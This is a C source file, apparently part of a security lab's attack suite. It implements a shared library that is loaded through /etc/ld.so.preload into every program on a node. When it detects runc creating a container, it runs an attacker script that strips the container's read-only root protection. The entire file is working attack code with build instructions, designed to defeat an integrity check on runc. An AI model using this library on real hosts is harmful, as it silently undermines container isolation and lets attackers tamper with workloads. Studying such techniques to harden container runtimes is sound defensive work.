/*
 * runc-preload: the attacker's library for the runc-preload technique.
 * Named in the node's /etc/ld.so.preload, the dynamic loader maps it into
 * every dynamic program that starts on the node, runc included; runc's own
 * file stays the bytes the start gate pinned.
 *
 * Its constructor does nothing unless the program is runc creating a
 * container (`runc … create … --bundle DIR …`); then it runs the attacker's
 * script with the bundle, which stacks a writable overlay on a read-only
 * root the start gate made and clears `root.readonly` (the same undoing as
 * the runc-replace technique's runc), before runc itself goes on.
 *
 * Build: gcc -shared -fPIC -O2 -o runc-preload.so runc-preload.c
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

/* Written by the technique (lab/attacks/techniques/runc-preload.ts). */
#define SCRIPT "/var/lib/containerd/attacker-preload/undo-read-only-root.sh"

__attribute__((constructor)) static void hijack(void) {
  char cmdline[16384];
  int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, cmdline, sizeof cmdline - 1);
  close(fd);
  if (n <= 0) return;
  cmdline[n] = '\0';
  const char *argv0 = cmdline;
  const char *base = strrchr(argv0, '/');
  if (strcmp(base ? base + 1 : argv0, "runc") != 0) return;
  int create = 0;
  const char *bundle = NULL, *prev = "";
  for (const char *a = cmdline; a < cmdline + n; a += strlen(a) + 1) {
    if (strcmp(a, "create") == 0) create = 1;
    if (strcmp(prev, "--bundle") == 0 || strcmp(prev, "-b") == 0) bundle = a;
    prev = a;
  }
  if (!create || !bundle) return;
  pid_t pid = fork();
  if (pid == 0) {
    execl("/bin/sh", "sh", SCRIPT, bundle, (char *)NULL);
    _exit(127);
  }
  if (pid > 0) waitpid(pid, NULL, 0);
}
